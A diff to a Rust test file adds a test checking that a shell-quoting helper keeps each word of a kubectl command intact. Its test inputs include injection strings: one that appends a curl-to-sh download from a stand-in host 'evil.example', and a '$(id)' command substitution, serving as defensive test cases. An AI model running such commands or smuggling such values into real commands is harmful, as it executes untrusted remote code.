@@ -16,6 +16,22 @@ fn long_text_becomes_one_short_line() {
     }
 }
 
+#[test]
+fn words_of_a_command_remain_words() {
+    for (word, quoted) in [
+        ("statefulset/shop-0", "statefulset/shop-0"),
+        ("https://example.com/a.yaml?x=1", "'https://example.com/a.yaml?x=1'"),
+        ("shop -n dev; curl -s https://evil.example/x | sh #", "'shop -n dev; curl -s https://evil.example/x | sh #'"),
+        ("$(id)`id`", "'$(id)`id`'"),
+        ("it's", "'it'\\''s'"),
+        ("", "''"),
+    ] {
+        assert_eq!(command_line(&["kubectl", word]), format!("kubectl {quoted}"));
+        let shell = std::process::Command::new("sh").args(["-c", &command_line(&["printf", "%s", word])]).output();
+        assert_eq!(String::from_utf8(shell.unwrap().stdout).unwrap(), word);
+    }
+}
+
 #[derive(Debug, thiserror::Error)]
 #[error("{0}")]
 struct Failed(&'static str, #[source] Option<Box<Failed>>);
